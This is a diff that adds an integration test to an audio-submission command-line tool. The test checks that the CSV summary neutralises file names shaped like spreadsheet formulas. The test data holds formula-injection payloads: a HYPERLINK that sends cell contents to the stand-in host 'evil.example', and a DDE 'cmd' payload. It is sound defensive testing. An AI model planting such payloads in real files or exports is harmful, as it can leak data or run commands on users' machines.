@@ -23,6 +23,7 @@ import pytest
 
 from tests.integration.submit_fixtures import (
     REPO,
+    SAMPLES,
     Service,
     broken_files,
     free_port,
@@ -253,3 +254,43 @@ def test_no_service_stops_the_batch_after_bounded_retries(tmp_path: Path) -> Non
     assert done.returncode == 1
     assert "cannot connect" in done.stderr
     assert manifest(out) == {}  # nothing was sent, so nothing is recorded as failed
+
+
+def test_summary_of_files_named_like_formulas_opens_as_text(
+    service: Service, tmp_path: Path
+) -> None:
+    inputs = tmp_path / "in"
+    inputs.mkdir()
+    names = [
+        '=HYPERLINK("evil.example?leak="&A1,"click").ogg',
+        "+cmd|' -C calc'!A0.ogg",
+        "-2+3.ogg",
+        "@SUM(A1:A9).ogg",
+        "\tTAB.ogg",
+        "\rCR.ogg",
+    ]
+    for name in names:
+        # One content for all: the server answers every upload after the first from that job.
+        (inputs / name).write_bytes((SAMPLES / "sine440.ogg").read_bytes())
+    out = tmp_path / "out"
+    run_cli(
+        "submit",
+        str(inputs),
+        "--out",
+        str(out),
+        "--api-url",
+        service.url,
+        "--poll-interval",
+        "0.2",
+        check_rc=0,
+    )
+    with (out / "summary.csv").open(newline="", encoding="utf-8") as fh:
+        header, *rows = list(csv.reader(fh))
+    assert len(rows) == len(names)
+    col = {name: i for i, name in enumerate(header)}
+    assert sorted(row[col["path"]] for row in rows) == sorted(f"'{name}" for name in names)
+    for row in rows:
+        for cell in row:
+            if cell.startswith(("=", "+", "-", "@", "\t", "\r")):
+                float(cell)  # only a number may start like a formula
+        assert float(row[col["loudness_lufs"]]) < 0  # negative numbers stay numbers
